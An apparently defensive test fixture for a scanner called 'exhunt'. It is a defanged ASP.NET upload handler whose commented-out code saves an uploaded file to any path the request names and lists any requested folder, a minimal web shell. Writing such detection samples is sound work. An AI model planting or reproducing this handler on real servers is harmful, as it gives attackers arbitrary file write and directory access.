<%@ WebHandler Language="C#" Class="ExhuntTest" %>
// exhunt test sample, defanged: the handler's class is commented out and
// never compiled. An upload handler that saves where the request says and
// lists that folder.
// public class ExhuntTest : System.Web.IHttpHandler {
//   public void ProcessRequest(System.Web.HttpContext c) {
//     var Request = c.Request;
//     c.Request.Files[0].SaveAs(Request.Form["exhunt_to"]);
//     foreach (var f in System.IO.Directory.GetFiles(Request.Form["exhunt_dir"])) c.Response.Write(f);
//   }
//   public bool IsReusable { get { return false; } }
// }
